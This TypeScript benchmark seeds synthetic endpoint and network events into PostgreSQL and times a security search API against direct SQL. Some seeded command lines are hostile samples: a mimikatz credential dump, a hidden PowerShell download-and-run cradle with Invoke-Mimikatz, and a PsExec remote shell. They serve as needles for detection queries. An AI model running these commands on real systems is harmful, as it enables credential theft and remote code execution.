/**
 * bench/search: the query language over BENCH_EVENTS endpoint events and as many network events
 * (default 10,000,000 each) spread over the last 30 days and three companies (50/30/20 %), through
 * `POST /api/search/run/` and `POST /api/search/histogram/`, against the very statements the search
 * sent (captured from an in-process app on the same database) run straight on the database, at once
 * as the search runs them.
 *
 *   BENCH_DATABASE_URL=postgres://postgres@127.0.0.1:5432/test npx tsx bench/search.ts
 *
 * Cases (the last 7 days unless said): a selective field query, a wildcard on the command line, a
 * CIDR block with a time range, free text over both kinds, the histogram of a query, and provider
 * staff over every company. Targets: API p95 < 1 s and < 2× the same SQL run directly.
 *
 * Settings: BENCH_EVENTS (per kind), BENCH_REQUESTS (30 per case), BENCH_WARMUP (3), BENCH_SQL (SQL run
 * after seeding and before VACUUM ANALYZE, to try an index without a migration; echoed in the report),
 * BENCH_EXPLAIN=1 (the plan of every statement after the table), BENCH_KEEP=<name> (seed once into the
 * database <name> on the server and keep it; later runs with the same name reuse it).
 */
import { randomBytes } from 'node:crypto';
import os from 'node:os';
import { openDatabase, type Database } from '../apps/server/src/db/database';
import { migrate } from '../apps/server/src/db/migrate';
import { sql, type SqlFragment } from '../apps/server/src/db/sql';
import { hashPassword } from '../apps/server/src/modules/auth/passwords';
import { bootstrap } from '../apps/server/src/modules/users/bootstrap';
import { fromCompiled, openBenchDatabase, type BenchDatabase } from './lib/database';
import { type Client } from './lib/http';
import { createCustomers, type SeededCompany } from './lib/seed';
import { bounded, formatMs, grid, summarize, time, type Summary } from './lib/stats';
import { benchConfig, startTenantAndAdminApps, type TimedApps } from './lib/timed-apps';
import { intFromEnv, progressReporter, serverUrlFromEnv } from './lib/options';

const env = process.env;
const serverUrl = serverUrlFromEnv(env);
const number = (name: string, fallback: number) => intFromEnv(env, name, fallback, 1, 1_000_000_000);
const EVENTS = number('BENCH_EVENTS', 10_000_000);
const REQUESTS = number('BENCH_REQUESTS', 30);
const WARMUP = number('BENCH_WARMUP', 3);
const CASE_SECONDS = 120;
const DAYS = 30;
const CHUNK = 500_000;
const TARGET_P95 = 1000;
const TARGET_RATIO = 2;
const KEEP = env.BENCH_KEEP?.trim() || undefined;
if (KEEP && !/^[a-z][a-z0-9_]{0,40}$/.test(KEEP)) throw new Error('BENCH_KEEP is a database name: a-z, 0-9, _');

const progress = progressReporter('search');

/** A pseudo-random whole number of g (Knuth's multiplicative hash), salted, in [0, n). */
const pick = (salt: number, n: number) => `((((g + ${salt}) * 2654435761::int8) % 4294967291) % ${n})`;
/** One of the values, by a salted hash of g. */
const oneOf = (salt: number, values: readonly string[]) =>
  `(ARRAY[${values.map((v) => `'${v.replaceAll("'", "''")}'`).join(',')}])[1 + ${pick(salt, values.length)}]`;
/** The company of row g: 50 % the first, 30 % the second, 20 % the third, interleaved in time. */
const companyOf = (companies: readonly SeededCompany[]) => {
  const [a, b, c] = companies.map((x) => x.id) as [number, number, number];
  return `CASE WHEN g % 10 < 5 THEN ${a} WHEN g % 10 < 8 THEN ${b} ELSE ${c} END`;
};

const processes = [
  'svchost.exe',
  'svchost.exe',
  'chrome.exe',
  'chrome.exe',
  'msedge.exe',
  'explorer.exe',
  'powershell.exe',
  'cmd.exe',
  'conhost.exe',
  'outlook.exe',
  'teams.exe',
  'rundll32.exe',
  'wmiprvse.exe',
  'winword.exe',
  'excel.exe',
  'onedrive.exe',
  'python.exe',
  'git.exe',
  'code.exe',
  'taskhostw.exe',
];
const actions = ['process_start', 'process_start', 'network_connection', 'file_create', 'registry_set', 'dns_query'];
const domains = ['microsoft.com', 'office365.com', 'google.com', 'github.com', 'corp.example', 'windowsupdate.com'];
const signatures = [
  'ET POLICY PE EXE or DLL Windows file download HTTP',
  'ET INFO Observed DNS Query to .cloud TLD',
  'ET SCAN Suspicious inbound to mySQL port 3306',
  'ET MALWARE Cobalt Strike Beacon Observed',
  'GPL ICMP_INFO PING *NIX',
];

/** Endpoint events g in [from, to]: time grows with g over the last DAYS days. */
function endpointChunk(companies: readonly SeededCompany[], from: number, to: number, start: Date, step: number) {
  const rare = `${pick(7, 100_000)}`;
  return `
    INSERT INTO endpoint_events (company_id, ts, batch_id, source_format, host_name, action, event_code, outcome,
      process_name, process_pid, command_line, parent_name, user_name, file_path, dest_ip, dest_port, event, raw)
    SELECT company_id, ts, g / 1000, 'ecs', host, action, '1', 'success', process, pid, cmd, parent, usr, path,
      CASE WHEN action = 'network_connection' THEN ('10.' || ${pick(3, 4)} || '.' || ${pick(4, 256)} || '.' || (1 + ${pick(5, 254)}))::inet END,
      CASE WHEN action = 'network_connection' THEN (ARRAY[443, 80, 445, 3389, 53])[1 + ${pick(6, 5)}] END,
      jsonb_build_object('host', jsonb_build_object('name', host), 'event', jsonb_build_object('action', action),
        'process', jsonb_build_object('name', process, 'pid', pid, 'command_line', cmd,
          'parent', jsonb_build_object('name', parent)), 'user', jsonb_build_object('name', usr)),
      '{}'::jsonb
    FROM (
      SELECT g, ${companyOf(companies)} AS company_id,
        '${start.toISOString()}'::timestamptz + (g * ${step}::float8) * interval '1 millisecond' AS ts,
        'WS-' || lpad(${pick(11, 3000)}::text, 4, '0') AS host,
        ${oneOf(12, actions)} AS action,
        CASE ${rare} WHEN 7 THEN 'mimikatz.exe' WHEN 11 THEN 'powershell.exe' WHEN 13 THEN 'PsExec.exe'
          ELSE ${oneOf(14, processes)} END AS process,
        1000 + ${pick(15, 60000)} AS pid,
        CASE ${rare}
          WHEN 7 THEN 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'
          WHEN 11 THEN 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(''http://10.9.8.7/a.ps1''); Invoke-Mimikatz -DumpCreds"'
          WHEN 13 THEN 'PsExec.exe \\\\SRV-' || lpad(${pick(16, 200)}::text, 4, '0') || ' -s -accepteula cmd.exe'
          ELSE 'C:\\Program Files\\' || ${oneOf(17, ['Google\\Chrome', 'Microsoft\\Edge', 'Common Files', 'Microsoft Office\\root', 'Git\\cmd', 'Python312'])}
            || '\\' || ${oneOf(14, processes)} || ' ' || ${oneOf(18, ['--type=renderer', '-k netsvcs -p -s', '/c', '-ExecutionPolicy Bypass -File', '--field-trial-handle=', '/automation -Embedding', 'pull --ff-only', '-m pip install'])}
            || ' ' || ${oneOf(19, ['BITS', 'Schedule', 'C:\\ProgramData\\scripts\\job', 'report', 'C:\\Users\\Public\\tmp', 'origin main', 'requests', 'WinHttpAutoProxySvc'])}
            || ${pick(20, 5000)}
        END AS cmd,
        ${oneOf(21, ['explorer.exe', 'services.exe', 'svchost.exe', 'cmd.exe', 'winlogon.exe', 'code.exe'])} AS parent,
        'CORP\\user' || lpad(${pick(22, 800)}::text, 3, '0') AS usr,
        CASE WHEN ${pick(23, 4)} = 0 THEN 'C:\\Users\\user' || ${pick(22, 800)} || '\\AppData\\Local\\Temp\\' || ${pick(24, 100000)} || '.tmp' END AS path
      FROM generate_series(${from}::int8, ${to}::int8) g
    ) x`;
}

/** Network events g in [from, to]. */
function networkChunk(companies: readonly SeededCompany[], from: number, to: number, start: Date, step: number) {
  return `
    INSERT INTO network_events (company_id, ts, batch_id, event_type, src_ip, src_port, dest_ip, dest_port, proto,
      app_proto, flow_id, sensor, severity, signature_id, signature, category, dns_rrname, http_hostname, http_url,
      tls_sni, event, raw)
    SELECT company_id, ts, g / 1000, et, src, 1024 + ${pick(31, 60000)}, dst, port,
      CASE WHEN et = 'dns' THEN 'UDP' ELSE 'TCP' END,
      CASE et WHEN 'dns' THEN 'dns' WHEN 'http' THEN 'http' WHEN 'tls' THEN 'tls' ELSE NULL END,
      (g * 7)::text, 'sensor-' || company_id,
      CASE WHEN et = 'alert' THEN (ARRAY['low','medium','high'])[1 + ${pick(32, 3)}] END,
      CASE WHEN et = 'alert' THEN 2000000 + ${pick(33, 5)} END, sig,
      CASE WHEN et = 'alert' THEN 'Potentially Bad Traffic' END,
      CASE WHEN et = 'dns' THEN host END, CASE WHEN et = 'http' THEN host END,
      CASE WHEN et = 'http' THEN '/api/v' || ${pick(34, 3)} || '/items/' || ${pick(35, 100000)} END,
      CASE WHEN et = 'tls' THEN host END,
      jsonb_build_object('event_type', et, 'src_ip', host(src), 'dest_ip', host(dst), 'dest_port', port,
        'proto', CASE WHEN et = 'dns' THEN 'UDP' ELSE 'TCP' END, 'host', host,
        'alert', CASE WHEN et = 'alert' THEN jsonb_build_object('signature', sig) END),
      '{}'::jsonb
    FROM (
      SELECT g, ${companyOf(companies)} AS company_id,
        '${start.toISOString()}'::timestamptz + (g * ${step}::float8) * interval '1 millisecond' AS ts,
        ${oneOf(36, ['flow', 'flow', 'flow', 'flow', 'flow', 'flow', 'flow', 'flow', 'flow', 'flow', 'dns', 'dns', 'dns', 'dns', 'dns', 'tls', 'tls', 'tls', 'http', 'http', 'alert'])} AS et,
        ('10.' || ${pick(37, 4)} || '.' || ${pick(38, 256)} || '.' || (1 + ${pick(39, 254)}))::inet AS src,
        CASE WHEN ${pick(40, 5)} = 0
          THEN ('10.' || ${pick(41, 4)} || '.' || ${pick(42, 256)} || '.' || (1 + ${pick(43, 254)}))::inet
          ELSE ((1 + ${pick(44, 222)}) || '.' || ${pick(45, 256)} || '.' || ${pick(46, 256)} || '.' || (1 + ${pick(47, 254)}))::inet
        END AS dst,
        (ARRAY[443, 443, 443, 80, 53, 445, 22, 3389, 8080])[1 + ${pick(48, 9)}] AS port,
        CASE WHEN ${pick(49, 20000)} = 5 THEN 'psexesvc.' || ${oneOf(50, domains)}
          ELSE 'h' || ${pick(51, 400)} || '.' || ${oneOf(50, domains)} END AS host,
        CASE WHEN ${pick(52, 1)} = 0 THEN ${oneOf(53, signatures)} END AS sig
      FROM generate_series(${from}::int8, ${to}::int8) g
    ) x`;
}

/** The event tables' indexes other than their primary keys, as CREATE statements. */
async function secondaryIndexes(db: Database): Promise<{ name: string; definition: string }[]> {
  const { rows } = await db.query<{ name: string; definition: string }>(sql`
    SELECT i.indexname AS name, i.indexdef AS definition FROM pg_indexes i
    WHERE i.tablename IN ('endpoint_events', 'network_events') AND i.indexname NOT LIKE '%pkey'`);
  return rows;
}

/**
 * Seeds both tables straight into their partitions (generate_series). The secondary indexes are
 * dropped first and built again after (one sorted build each instead of 20 million insertions).
 */
async function seed(db: Database, companies: SeededCompany[]): Promise<void> {
  const end = new Date();
  const start = new Date(end.getTime() - DAYS * 86_400_000);
  const step = (DAYS * 86_400_000) / EVENTS;
  for (let month = new Date(Date.UTC(start.getUTCFullYear(), start.getUTCMonth(), 1)); month <= end;) {
    for (const table of ['endpoint_events', 'network_events']) {
      await db.query(sql`SELECT vigil_ensure_month_partition(${table}, ${month.toISOString()}::timestamptz)`);
    }
    month = new Date(Date.UTC(month.getUTCFullYear(), month.getUTCMonth() + 1, 1));
  }
  const indexes = await secondaryIndexes(db);
  for (const index of indexes) await db.exec(`DROP INDEX ${index.name}`);
  for (const [kind, chunk] of [
    ['endpoint', endpointChunk],
    ['network', networkChunk],
  ] as const) {
    for (let from = 1; from <= EVENTS; from += CHUNK) {
      const to = Math.min(EVENTS, from + CHUNK - 1);
      await db.exec(chunk(companies, from, to, start, step));
      progress(`  ${kind} events ${to.toLocaleString('en-US')} of ${EVENTS.toLocaleString('en-US')}`);
    }
  }
  progress(`building ${indexes.length} indexes`);
  await db.exec('SET maintenance_work_mem = $$1GB$$');
  for (const index of indexes) await db.exec(index.definition);
}

interface SearchCase {
  name: string;
  path: '/api/search/run/?page_size=50' | '/api/search/histogram/';
  kinds: ('network' | 'endpoint')[];
  query: string;
  who: 'tenant' | 'admin';
  /** The time range, counted back from now. */
  hours: number;
}

const cases: SearchCase[] = [
  {
    name: 'selective field',
    path: '/api/search/run/?page_size=50',
    kinds: ['endpoint'],
    query: 'process_name: mimikatz.exe',
    who: 'tenant',
    hours: 24 * 7,
  },
  {
    name: 'wildcard on command line',
    path: '/api/search/run/?page_size=50',
    kinds: ['endpoint'],
    query: 'command_line: *Invoke-Mimikatz*',
    who: 'tenant',
    hours: 24 * 7,
  },
  {
    name: 'CIDR block and a time range',
    path: '/api/search/run/?page_size=50',
    kinds: ['network'],
    query: 'src_ip: 10.2.0.0/16 and dest_port: 445 and ts >= now-6h',
    who: 'tenant',
    hours: 24 * 7,
  },
  {
    name: 'free text, both kinds',
    path: '/api/search/run/?page_size=50',
    kinds: ['endpoint', 'network'],
    query: 'psexesvc',
    who: 'tenant',
    hours: 24 * 7,
  },
  {
    name: 'histogram of a field query',
    path: '/api/search/histogram/',
    kinds: ['endpoint'],
    query: 'process_name: powershell.exe and user_name: "CORP\\\\user042"',
    who: 'tenant',
    hours: 24 * 7,
  },
  {
    name: 'selective field, provider staff',
    path: '/api/search/run/?page_size=50',
    kinds: ['endpoint'],
    query: 'process_name: mimikatz.exe',
    who: 'admin',
    hours: 24 * 7,
  },
];

interface CaseFigures {
  name: string;
  hits: number | null;
  api: Summary;
  raw: Summary;
  floor: Summary | null;
  statements: number;
}

async function openTarget(): Promise<BenchDatabase & { fresh: boolean }> {
  if (!KEEP || !serverUrl) return { ...(await openBenchDatabase(serverUrl)), fresh: true };
  const maintenance = await openDatabase({ url: serverUrl, poolSize: 1 });
  const exists = await maintenance.query(sql`SELECT 1 FROM pg_database WHERE datname = ${KEEP}`);
  if (exists.rows.length === 0) await maintenance.exec(`CREATE DATABASE ${KEEP}`);
  await maintenance.close();
  const url = new URL(serverUrl);
  url.pathname = `/${KEEP}`;
  const db = await openDatabase({ url: url.toString(), poolSize: 10 });
  return {
    db,
    url: url.toString(),
    label: `PostgreSQL server, kept database ${KEEP}`,
    dispose: () => db.close(),
    fresh: exists.rows.length === 0,
  };
}

async function run(): Promise<{ rows: CaseFigures[]; label: string; plans: string[] }> {
  const target = await openTarget();
  const { db } = target;
  const adminPassword = KEEP ? 'Bench-search-admin-1' : randomBytes(18).toString('base64url');
  const tenantPassword = KEEP ? 'Bench-search-tenant-1' : randomBytes(18).toString('base64url');
  const config = benchConfig(adminPassword);
  let apps: TimedApps<'tenant' | 'admin'> | null = null;
  try {
    progress(`database: ${target.label}`);
    await migrate(db);
    if (target.fresh) {
      await bootstrap(db, config);
      const companies = await createCustomers(db);
      const role = await db.query<{ id: number }>(sql`
        INSERT INTO roles (company_id, name, permissions)
        VALUES (${companies[0]!.id}, 'Searcher', ${JSON.stringify([
          { basename: 'eclipse_events', actions: ['view'] },
          { basename: 'network', actions: ['view'] },
          { basename: 'search', actions: ['view'] },
        ])}::jsonb) RETURNING id`);
      const user = await db.query<{ id: number }>(sql`
        INSERT INTO users (company_id, username, first_name, password_hash, password_changed_at)
        VALUES (${companies[0]!.id}, 'bench-tenant', 'Bench', ${await hashPassword(tenantPassword)}, now()) RETURNING id`);
      await db.query(sql`INSERT INTO user_roles (user_id, role_id) VALUES (${user.rows[0]!.id}, ${role.rows[0]!.id})`);
      progress(`seeding ${EVENTS.toLocaleString('en-US')} endpoint and as many network events`);
      const seedMs = await time(() => seed(db, companies));
      progress(`seeded in ${(seedMs / 1000).toFixed(0)} s`);
    } else {
      progress('reusing the kept database (seeded before)');
    }
    if (env.BENCH_SQL) {
      progress(`BENCH_SQL: ${env.BENCH_SQL}`);
      await db.exec(env.BENCH_SQL);
    }
    progress('VACUUM (ANALYZE)');
    await db.exec('VACUUM (ANALYZE) endpoint_events');
    await db.exec('VACUUM (ANALYZE) network_events');

    apps = await startTenantAndAdminApps({
      db,
      databaseUrl: target.url,
      config,
      adminPassword,
      tenantPassword,
      progress,
    });
    const { recorder, clients, timed, floor } = apps;

    const rows: CaseFigures[] = [];
    const plans: string[] = [];
    for (const c of cases) {
      const body = () => {
        const to = new Date();
        return {
          kinds: c.kinds,
          query: c.query,
          from: new Date(to.getTime() - c.hours * 3_600_000).toISOString(),
          to: to.toISOString(),
        };
      };
      const call = (client: Client) => client.send<{ count?: number }>('POST', c.path, body());
      const { result, statements } = await recorder.capture(() => call(clients[c.who]));
      const own: SqlFragment[] = statements.filter((s) => /_events e\b/.test(s.text)).map(fromCompiled);
      if (own.length === 0) throw new Error(`${c.name}: no statement on an event table was captured`);
      progress(`${c.name}: API (${WARMUP} + ${REQUESTS})`);
      await bounded(WARMUP, CASE_SECONDS, async () => (await call(timed[c.who])).ms);
      const api = await bounded(REQUESTS, CASE_SECONDS, async () => (await call(timed[c.who])).ms);
      progress(`${c.name}: raw SQL, ${own.length} statement(s) at once`);
      const rawOnce = () => time(() => Promise.all(own.map((statement) => db.query(statement))));
      await bounded(WARMUP, CASE_SECONDS, rawOnce);
      const raw = await bounded(REQUESTS, CASE_SECONDS, rawOnce);
      let floorSamples: number[] | null = null;
      if (floor) {
        const sqlFloor = floor;
        await bounded(WARMUP, CASE_SECONDS, () => sqlFloor.time(...own));
        floorSamples = await bounded(REQUESTS, CASE_SECONDS, () => sqlFloor.time(...own));
      }
      if (env.BENCH_EXPLAIN === '1') {
        for (const statement of own) {
          const plan = await db.query<{ 'QUERY PLAN': string }>(sql`EXPLAIN (ANALYZE, BUFFERS) ${statement}`);
          plans.push(`-- ${c.name}\n${plan.rows.map((r) => r['QUERY PLAN']).join('\n')}`);
        }
      }
      rows.push({
        name: `${c.name} (${c.who === 'tenant' ? 'tenant' : 'provider'}): ${c.kinds.join('+')} ${c.query}`,
        hits: typeof result.body.count === 'number' ? result.body.count : null,
        api: summarize(api),
        raw: summarize(raw),
        floor: floorSamples ? summarize(floorSamples) : null,
        statements: own.length,
      });
    }
    return { rows, label: target.label, plans };
  } finally {
    await apps?.stop();
    await target.dispose();
  }
}

async function main(): Promise<void> {
  const load = os
    .loadavg()
    .map((l) => l.toFixed(2))
    .join(' ');
  const { rows, label, plans } = await run();
  let failed = false;
  const out = [
    `bench/search — ${new Date().toISOString()}, load average ${load} at the start`,
    `database: ${label}; ${EVENTS.toLocaleString('en-US')} endpoint and ${EVENTS.toLocaleString('en-US')} network events over ${DAYS} days, 3 companies (50/30/20 %)`,
    ...(env.BENCH_SQL ? [`BENCH_SQL: ${env.BENCH_SQL}`] : []),
    grid(
      ['case', 'hits', 'n', 'API p50', 'API p95', 'raw p50', 'raw p95', 'p95 ratio', 'floor p95', 'stmts', 'met'],
      rows.map((r) => {
        const ratio = r.api.p95 / r.raw.p95;
        const met = r.api.p95 < TARGET_P95 && ratio < TARGET_RATIO;
        if (!met) failed = true;
        return [
          r.name,
          r.hits === null ? '-' : String(r.hits),
          String(r.api.n),
          formatMs(r.api.p50),
          formatMs(r.api.p95),
          formatMs(r.raw.p50),
          formatMs(r.raw.p95),
          `${ratio.toFixed(2)}x`,
          r.floor ? formatMs(r.floor.p95) : '-',
          String(r.statements),
          met ? 'yes' : 'NO',
        ];
      }),
    ),
    `targets: API p95 < ${TARGET_P95} ms and < ${TARGET_RATIO}x raw p95; raw = the captured statements run at once on a pool; floor = the same through a bare node:http server`,
    ...plans,
  ];
  process.stdout.write(`${out.join('\n')}\n`);
  process.exitCode = failed ? 1 : 0;
}

main().catch((error: unknown) => {
  process.stderr.write(`${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
  process.exit(2);
});
